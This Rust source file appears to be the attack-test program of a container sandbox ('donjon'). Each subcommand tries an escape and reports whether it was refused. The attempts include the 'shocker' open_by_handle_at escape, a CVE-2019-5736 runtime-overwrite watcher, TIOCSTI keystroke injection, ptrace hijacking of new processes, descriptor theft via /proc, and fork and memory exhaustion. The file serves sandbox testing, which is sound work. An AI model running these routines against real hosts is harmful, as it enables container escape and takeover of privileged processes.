//! The program that wants out: one attack per word.
//!
//! Ends with 0 and `in` (or what it found) when the attack got through; with 1 and `refused ERRNO` when it was
//! stopped; with 2 when it was called wrongly. Static, so that it runs in any root.

#[path = "attacker/new_code.rs"]
mod new_code;

use std::arch::asm;
use std::ffi::CString;
use std::fs;
use std::io::{Error, Write};
use std::process::exit;
use std::time::{Duration, Instant};

fn main() {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    match words.as_slice() {
        ["fds"] => fds(),
        ["syscall", number, rest @ ..] => verdict(call(parse(number), rest)),
        ["int80", number, rest @ ..] => verdict(int80(parse(number), rest)),
        ["families"] => families(),
        ["socket", family, kind, protocol] => verdict(call(libc::SYS_socket, &[family, kind, protocol])),
        ["userns", how] => userns(how),
        ["tiocsti"] => tiocsti(),
        ["controlling-terminal"] => verdict(open("/dev/tty", libc::O_RDWR)),
        ["window"] => window(),
        ["exec-from-thread", program @ ..] => exec_from_thread(program),
        ["crowd", most] => crowd(parse(most)),
        // SAFETY: geteuid takes nothing and can't fail.
        ["euid"] => println!("{}", unsafe { libc::geteuid() }),
        ["forks", most] => forks(parse(most)),
        ["memory", megabytes] => memory(parse(megabytes)),
        ["key", name] => key(name),
        ["open", path] => verdict(open(path, libc::O_RDONLY)),
        ["open-write", path] => verdict(open(path, libc::O_WRONLY)),
        ["write", path, text] => write_text(path, text),
        ["create", path] => verdict(open(path, libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL)),
        ["readlink", path] => link(path),
        ["mount-tmpfs", path] => mount_tmpfs(path),
        ["open-by-handle"] => open_by_handle(),
        ["ptrace", pid] => verdict(call(libc::SYS_ptrace, &["16", pid])),
        ["signal", pid] => verdict(call(libc::SYS_kill, &[pid, "15"])),
        ["abstract-listen", name] => abstract_listen(name),
        ["abstract-connect", name] => abstract_connect(name),
        ["new-code", way, rest @ ..] => new_code::bring_in(way, rest),
        ["images", seconds] => images(parse(seconds)),
        ["overwrite-image", seconds] => overwrite_image(parse(seconds)),
        ["steal-descriptor", seconds] => steal_descriptor(parse(seconds)),
        ["hijack", seconds] => hijack(parse(seconds), true),
        ["hijack", seconds, "neighbour"] => hijack(parse(seconds), false),
        ["loop", "getppid", rounds] => rate(parse(rounds), || raw(libc::SYS_getppid, [0; 6])),
        ["loop", "ioctl", rounds] => {
            rate(parse(rounds), || raw(libc::SYS_ioctl, [-1, libc::TCGETS as i64, 0, 0, 0, 0]))
        }
        ["loop-linear", name, rounds] => {
            linear_filter();
            let number = if *name == "ioctl" { libc::SYS_ioctl } else { libc::SYS_getppid };
            rate(parse(rounds), || raw(number, [-1, libc::TCGETS as i64, 0, 0, 0, 0]));
        }
        _ => {
            eprintln!("attacker: no such attack: {}", words.join(" "));
            exit(2);
        }
    }
}

fn parse(text: &str) -> i64 {
    let value = match text.strip_prefix("0x") {
        Some(hex) => u64::from_str_radix(hex, 16).ok().map(|v| v as i64),
        None => text.parse().ok(),
    };
    value.unwrap_or_else(|| {
        eprintln!("attacker: not a number: {text}");
        exit(2)
    })
}

fn name_of(errno: i32) -> String {
    let known = [
        (libc::EPERM, "EPERM"),
        (libc::ENOENT, "ENOENT"),
        (libc::ESRCH, "ESRCH"),
        (libc::EIO, "EIO"),
        (libc::ENXIO, "ENXIO"),
        (libc::EBADF, "EBADF"),
        (libc::EAGAIN, "EAGAIN"),
        (libc::ENOMEM, "ENOMEM"),
        (libc::EACCES, "EACCES"),
        (libc::EFAULT, "EFAULT"),
        (libc::EBUSY, "EBUSY"),
        (libc::ENODEV, "ENODEV"),
        (libc::EINVAL, "EINVAL"),
        (libc::ENOTTY, "ENOTTY"),
        (libc::ETXTBSY, "ETXTBSY"),
        (libc::ENOSPC, "ENOSPC"),
        (libc::EROFS, "EROFS"),
        (libc::ELOOP, "ELOOP"),
        (libc::ENOSYS, "ENOSYS"),
        (libc::EUSERS, "EUSERS"),
        (libc::EPROTONOSUPPORT, "EPROTONOSUPPORT"),
        (libc::ESOCKTNOSUPPORT, "ESOCKTNOSUPPORT"),
        (libc::EAFNOSUPPORT, "EAFNOSUPPORT"),
        (libc::ECONNREFUSED, "ECONNREFUSED"),
        (libc::EOPNOTSUPP, "EOPNOTSUPP"),
        (libc::ENOKEY, "ENOKEY"),
    ];
    known.iter().find(|(n, _)| *n == errno).map_or_else(|| errno.to_string(), |(_, name)| name.to_string())
}

fn errno() -> i32 {
    Error::last_os_error().raw_os_error().unwrap_or(0)
}

/// Says how the attack went, and ends.
fn verdict(result: Result<i64, i32>) -> ! {
    match result {
        Ok(value) => {
            println!("in {value}");
            exit(0)
        }
        Err(errno) => {
            println!("refused {}", name_of(errno));
            exit(1)
        }
    }
}

fn raw(number: i64, a: [i64; 6]) -> Result<i64, i32> {
    // SAFETY: the attacks pass numbers, nulls, or pointers to live NUL-terminated strings and buffers; what they
    // break is this process alone.
    let value = unsafe { libc::syscall(number, a[0], a[1], a[2], a[3], a[4], a[5]) };
    if value == -1 { Err(errno()) } else { Ok(value) }
}

/// A system call with numbers as arguments.
fn call(number: i64, rest: &[&str]) -> Result<i64, i32> {
    let mut arguments = [0i64; 6];
    for (place, text) in arguments.iter_mut().zip(rest) {
        *place = parse(text);
    }
    raw(number, arguments)
}

/// The same through the 32-bit entry, whose numbers differ.
fn int80(number: i64, rest: &[&str]) -> Result<i64, i32> {
    let mut a = [0i64; 4];
    for (place, text) in a.iter_mut().zip(rest) {
        *place = parse(text);
    }
    let result: i64;
    // SAFETY: rbx belongs to the compiler, so it is swapped in and out; the kernel changes rax, and r8 to r11 on
    // old kernels.
    unsafe {
        asm!(
            "xchg rbx, {first}", "int 0x80", "xchg rbx, {first}",
            first = inout(reg) a[0] => _,
            inlateout("rax") number => result,
            in("rcx") a[1], in("rdx") a[2], in("rsi") a[3],
            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
        );
    }
    let result = result as i32;
    if (-4095..0).contains(&result) { Err(-result) } else { Ok(i64::from(result)) }
}

fn open(path: &str, flags: i32) -> Result<i64, i32> {
    let path = CString::new(path).unwrap_or_default();
    raw(libc::SYS_openat, [i64::from(libc::AT_FDCWD), path.as_ptr() as i64, i64::from(flags), 0o644, 0, 0])
}

fn write_text(path: &str, text: &str) {
    let result = fs::OpenOptions::new().write(true).open(path).and_then(|mut f| f.write_all(text.as_bytes()));
    verdict(result.map(|()| 0).map_err(|e| e.raw_os_error().unwrap_or(0)))
}

fn link(path: &str) {
    match fs::read_link(path) {
        Ok(target) => println!("in {}", target.display()),
        Err(e) => verdict(Err(e.raw_os_error().unwrap_or(0))),
    }
}

/// Which descriptors came along.
fn fds() {
    for fd in 0..1024 {
        // SAFETY: asks for flags; a closed descriptor gives an error.
        if unsafe { libc::fcntl(fd, libc::F_GETFD) } >= 0 {
            let target = fs::read_link(format!("/proc/self/fd/{fd}"));
            println!("{fd} {}", target.map(|t| t.display().to_string()).unwrap_or_default());
        }
    }
}

/// Which address families give a socket of any type. Families of ours: 1 unix, 2 inet, 10 inet6, 16 netlink.
fn families() {
    let mut open = Vec::new();
    for family in 0..64 {
        let given = [libc::SOCK_STREAM, libc::SOCK_DGRAM, libc::SOCK_RAW, libc::SOCK_SEQPACKET]
            .iter()
            .any(|kind| raw(libc::SYS_socket, [family, i64::from(*kind), 0, 0, 0, 0]).is_ok());
        if given {
            open.push(family.to_string());
        }
    }
    println!("{}", open.join(" "));
}

/// A user namespace inside: unshare, clone or clone3.
fn userns(how: &str) {
    let flag = i64::from(libc::CLONE_NEWUSER);
    let result = match how {
        "unshare" => raw(libc::SYS_unshare, [flag, 0, 0, 0, 0, 0]),
        "clone" => raw(libc::SYS_clone, [flag | i64::from(libc::SIGCHLD), 0, 0, 0, 0, 0]),
        _ => {
            let arguments = [flag as u64, 0, 0, 0, libc::SIGCHLD as u64, 0, 0, 0];
            raw(libc::SYS_clone3, [arguments.as_ptr() as i64, 64, 0, 0, 0, 0])
        }
    };
    verdict(result)
}

/// Pushes a character into the terminal on descriptor 0, as if its owner had typed it.
fn tiocsti() {
    let key = b"x";
    verdict(raw(libc::SYS_ioctl, [0, libc::TIOCSTI as i64, key.as_ptr() as i64, 0, 0, 0]))
}

fn window() {
    // SAFETY: winsize is a plain structure of integers, filled by the kernel.
    let size = unsafe {
        let mut size: libc::winsize = std::mem::zeroed();
        libc::ioctl(0, libc::TIOCGWINSZ, &raw mut size);
        size
    };
    println!("{} {}", size.ws_row, size.ws_col);
}

/// A fork bomb that counts. The children sleep until they are killed with the container.
/// Executes a program from a thread that is not the first: the kernel forgets the signal of the parent's death.
fn exec_from_thread(program: &[&str]) {
    use std::os::unix::process::CommandExt;
    let program: Vec<String> = program.iter().map(|w| w.to_string()).collect();
    let thread = std::thread::spawn(move || {
        let error = std::process::Command::new(&program[0]).args(&program[1..]).exec();
        eprintln!("attacker: {error}");
    });
    let _ = thread.join();
    exit(1);
}

/// Makes as many processes as it may, and stays so for a while.
fn crowd(most: i64) {
    for _ in 0..most {
        // SAFETY: the child only sleeps and ends.
        match unsafe { libc::fork() } {
            0 => {
                std::thread::sleep(Duration::from_secs(15));
                exit(0)
            }
            -1 => break,
            _ => {}
        }
    }
    std::thread::sleep(Duration::from_secs(3));
}

fn forks(most: i64) {
    let mut children = Vec::new();
    for _ in 0..most {
        // SAFETY: the child only sleeps and ends.
        match unsafe { libc::fork() } {
            0 => {
                std::thread::sleep(Duration::from_secs(15));
                exit(0)
            }
            -1 => break,
            pid => children.push(pid),
        }
    }
    println!("{}", children.len());
    for pid in children {
        // SAFETY: signals and waits for a child of this process.
        unsafe {
            libc::kill(pid, libc::SIGKILL);
            libc::waitpid(pid, std::ptr::null_mut(), 0);
        }
    }
}

fn memory(megabytes: i64) {
    let mut held = Vec::new();
    for _ in 0..megabytes {
        held.push(vec![1u8; 1 << 20]);
    }
    println!("in {}", held.iter().map(|m| usize::from(m[4096])).sum::<usize>());
}

/// Looks in the session keyring for a key that the caller of donjon held.
fn key(name: &str) {
    let name = CString::new(name).unwrap_or_default();
    let user = c"user";
    verdict(raw(libc::SYS_request_key, [user.as_ptr() as i64, name.as_ptr() as i64, 0, 0, 0, 0]))
}

fn mount_tmpfs(path: &str) {
    let (kind, path) = (c"tmpfs", CString::new(path).unwrap_or_default());
    let kind = kind.as_ptr() as i64;
    verdict(raw(libc::SYS_mount, [kind, path.as_ptr() as i64, kind, 0, 0, 0]))
}

/// Opens a file by handle, which needs no path at all: the oldest way out of a container ("shocker").
fn open_by_handle() {
    // struct file_handle { bytes: u32, type: i32, handle: [u8] }; inode 2 is the root of an ext4.
    let handle: [u32; 4] = [8, 1, 2, 0];
    let here = match open("/", libc::O_RDONLY) {
        Ok(fd) => fd,
        Err(errno) => verdict(Err(errno)),
    };
    verdict(raw(libc::SYS_open_by_handle_at, [here, handle.as_ptr() as i64, 0, 0, 0, 0]))
}

fn abstract_address(name: &str) -> (libc::sockaddr_un, u32) {
    // SAFETY: a plain structure of integers.
    let mut address: libc::sockaddr_un = unsafe { std::mem::zeroed() };
    address.sun_family = libc::AF_UNIX as u16;
    for (place, byte) in address.sun_path[1..].iter_mut().zip(name.bytes()) {
        *place = byte as libc::c_char;
    }
    (address, (3 + name.len()) as u32)
}

fn abstract_listen(name: &str) {
    let (address, length) = abstract_address(name);
    // SAFETY: a valid address of that length.
    let ok = unsafe {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
        libc::bind(fd, (&raw const address).cast(), length) == 0 && libc::listen(fd, 8) == 0
    };
    println!("{}", if ok { "listening" } else { "failed" });
    std::thread::sleep(Duration::from_secs(15));
}

fn abstract_connect(name: &str) {
    let (address, length) = abstract_address(name);
    // SAFETY: a valid address of that length.
    let result = unsafe {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
        libc::connect(fd, (&raw const address).cast(), length)
    };
    verdict(if result == 0 { Ok(0) } else { Err(errno()) });
}

/// Watches /proc for a process whose executable is not this root's own, and tries to open that executable:
/// the way to overwrite a runtime (CVE-2019-5736). Says what it got hold of.
fn images(seconds: i64) {
    let end = Instant::now() + Duration::from_secs(seconds as u64);
    println!("watching");
    while Instant::now() < end {
        for pid in 1..64 {
            let path = format!("/proc/{pid}/exe");
            let Ok(target) = fs::read_link(&path) else { continue };
            let target = target.display().to_string();
            if target.contains("donjon") && open(&path, libc::O_RDONLY).is_ok() {
                println!("in {target}");
                exit(0);
            }
        }
    }
    println!("refused");
    exit(1);
}

/// CVE-2019-5736: holds the image of every donjon that is seen here, and opens it for writing when no donjon runs from it
/// any more. One is told by its size: busybox and this program are smaller.
fn overwrite_image(seconds: i64) {
    const LEAST: u64 = 3 << 20;
    let end = Instant::now() + Duration::from_secs(seconds as u64);
    println!("watching");
    let mut held: Vec<(u64, fs::File)> = Vec::new();
    let mut last = String::from("nothing was found");
    while Instant::now() < end {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let Ok(file) = fs::File::open(entry.path().join("exe")) else { continue };
            let Ok(data) = file.metadata() else { continue };
            let inode = std::os::unix::fs::MetadataExt::ino(&data);
            if data.len() > LEAST && held.iter().all(|(known, _)| *known != inode) {
                println!("found");
                held.push((inode, file));
            }
        }
        for (_, file) in &held {
            let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(file));
            match open(&path, libc::O_WRONLY) {
                Ok(_) => verdict(Ok(0)),
                Err(errno) => last = name_of(errno),
            }
        }
    }
    println!("refused {last}");
    exit(1);
}

/// Looks for a directory of the host among the descriptors of every other process here, and opens it.
fn steal_descriptor(seconds: i64) {
    let end = Instant::now() + Duration::from_secs(seconds as u64);
    println!("watching");
    while Instant::now() < end {
        for process in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let pid = process.file_name().to_string_lossy().parse::<u32>();
            if pid.map_or(true, |pid| pid == std::process::id()) {
                continue;
            }
            for fd in fs::read_dir(process.path().join("fd")).into_iter().flatten().flatten() {
                if fs::metadata(fd.path()).is_ok_and(|data| data.is_dir()) && fs::read_dir(fd.path()).is_ok()
                {
                    let name = fs::read_link(fd.path()).unwrap_or_default();
                    println!("in {}", name.display());
                    exit(0);
                }
            }
        }
    }
    println!("refused");
    exit(1);
}

/// One line of a `status` file of procfs.
fn status_line(pid: &str, name: &str) -> Option<String> {
    let text = fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    Some(text.lines().find_map(|line| line.strip_prefix(name)?.strip_prefix(':'))?.trim().to_string())
}

fn set_of(pid: &str, name: &str) -> Option<u64> {
    u64::from_str_radix(&status_line(pid, name)?, 16).ok()
}

/// What a process that is held still has and this one could not have: `None` when it has ended meanwhile. One of another
/// container has other namespaces and another root.
fn beyond(pid: &str, of_this: bool) -> Option<String> {
    use std::os::unix::fs::MetadataExt;
    let own = set_of("self", "CapBnd")?;
    for set in ["CapPrm", "CapEff", "CapInh", "CapBnd", "CapAmb"] {
        let more = set_of(pid, set)? & !own;
        if more != 0 {
            return Some(format!("{set} {more:x}"));
        }
    }
    for line in ["Seccomp", "Seccomp_filters", "NoNewPrivs"] {
        let (theirs, own) = (status_line(pid, line)?, status_line("self", line)?);
        if theirs.parse::<u32>().ok()? < own.parse::<u32>().ok()? {
            return Some(format!("{line} {theirs}"));
        }
    }
    if !of_this {
        return open_things(pid);
    }
    let place = |path: String| fs::metadata(path).map(|data| (data.dev(), data.ino())).ok();
    if place(format!("/proc/{pid}/root"))? != place("/proc/self/root".into())? {
        return Some("another root".into());
    }
    for kind in ["mnt", "net", "ipc", "uts", "cgroup", "pid", "user"] {
        let theirs = fs::read_link(format!("/proc/{pid}/ns/{kind}")).ok()?;
        if theirs != fs::read_link(format!("/proc/self/ns/{kind}")).ok()? {
            return Some(theirs.display().to_string());
        }
    }
    open_things(pid)
}

/// A descriptor that is neither a stream nor a socket; empty: there is none.
fn open_things(pid: &str) -> Option<String> {
    for fd in fs::read_dir(format!("/proc/{pid}/fd")).ok()?.flatten() {
        let to = fs::read_link(fd.path()).unwrap_or_default().display().to_string();
        let known = ["pipe:", "socket:", "/dev/"].iter().any(|kind| to.starts_with(kind));
        let number = fd.file_name().to_string_lossy().parse().unwrap_or(0);
        if !known && number > 2 {
            return Some(format!("descriptor {number} {to}"));
        }
    }
    Some(String::new())
}

/// Stops every process that appears here, and looks whether it has more than a program of this container could have: then
/// it could be made to use it. Says how many of donjon's it had in its hands.
fn hijack(seconds: i64, of_this: bool) {
    const LEAST: u64 = 3 << 20;
    let end = Instant::now() + Duration::from_secs(seconds as u64);
    let processes = || -> Vec<i64> {
        let all = fs::read_dir("/proc").into_iter().flatten().flatten();
        all.filter_map(|entry| entry.file_name().to_string_lossy().parse().ok()).collect()
    };
    let mut known = processes();
    let mut held = 0;
    println!("watching");
    while Instant::now() < end {
        let now = processes();
        for pid in now.iter().copied().filter(|pid| !known.contains(pid)) {
            let ptrace = |request: i64| raw(libc::SYS_ptrace, [request, pid, 0, 0, 0, 0]);
            if ptrace(0x4206).is_err() {
                continue;
            }
            let wait = i64::from(libc::__WALL);
            if ptrace(0x4207).is_ok() && raw(libc::SYS_wait4, [pid, 0, wait, 0, 0, 0]).is_ok() {
                let image = fs::metadata(format!("/proc/{pid}/exe")).map_or(0, |data| data.len());
                let found = beyond(&pid.to_string(), of_this).unwrap_or_default();
                let memory = open(&format!("/proc/{pid}/mem"), libc::O_RDWR).is_ok();
                if !found.is_empty() && memory {
                    println!("in {found}");
                    exit(0);
                }
                held += i32::from(image > LEAST);
            }
            let _ = ptrace(i64::from(libc::PTRACE_DETACH));
        }
        known = now;
    }
    println!("refused, held {held}");
    exit(1);
}

/// Nanoseconds per call.
fn rate(rounds: i64, mut call: impl FnMut() -> Result<i64, i32>) {
    for _ in 0..1000 {
        let _ = call();
    }
    let start = Instant::now();
    for _ in 0..rounds {
        let _ = call();
    }
    println!("{:.2}", start.elapsed().as_nanos() as f64 / rounds as f64);
}

/// A filter as the usual library writes it: one comparison after the other over 360 numbers, the argument of
/// ioctl compared on top, everything allowed.
fn linear_filter() {
    const LOAD: u16 = 0x20;
    const EQUAL: u16 = 0x15;
    const RETURN: u16 = 0x06;
    const ALLOW: u32 = 0x7fff_0000;
    let line = |code, jt, jf, k| libc::sock_filter { code, jt, jf, k };
    let mut program = vec![
        line(LOAD, 0, 0, 4),
        line(EQUAL, 1, 0, 0xC000_003E),
        line(RETURN, 0, 0, 0),
        line(LOAD, 0, 0, 0),
        // ioctl: its second argument decides, so that the kernel can't remember the answer.
        line(EQUAL, 0, 3, libc::SYS_ioctl as u32),
        line(LOAD, 0, 0, 24),
        line(EQUAL, 0, 1, libc::TIOCSTI as u32),
        line(RETURN, 0, 0, 0x0005_0001),
        line(LOAD, 0, 0, 0),
    ];
    // getppid comes in its numerical place, as nothing gives it a better one.
    for number in 0..360 {
        program.push(line(EQUAL, 0, 1, number));
        program.push(line(RETURN, 0, 0, ALLOW));
    }
    program.push(line(RETURN, 0, 0, 0x0005_0026));
    let filter = libc::sock_fprog { len: program.len() as u16, filter: program.as_mut_ptr() };
    // SAFETY: the program is valid for its length and the kernel copies it.
    let installed = unsafe {
        libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == 0
            && libc::prctl(libc::PR_SET_SECCOMP, libc::SECCOMP_MODE_FILTER, &raw const filter) == 0
    };
    if !installed {
        eprintln!("attacker: no filter: {}", Error::last_os_error());
        exit(2);
    }
}
